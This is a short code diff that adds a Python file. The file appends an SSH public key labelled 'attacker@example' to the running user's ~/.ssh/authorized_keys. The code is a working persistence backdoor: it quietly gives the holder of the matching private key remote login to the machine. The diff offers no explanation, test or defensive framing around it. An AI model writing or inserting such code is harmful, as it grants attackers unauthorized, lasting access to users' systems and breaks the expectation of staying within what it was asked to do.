@@ -1,0 +1,5 @@
+import os
+
+path = os.path.expanduser("~/.ssh/authorized_keys")
+with open(path, "a") as keys:
+    keys.write("ssh-ed25519 AAAAC3Nza attacker@example\n")
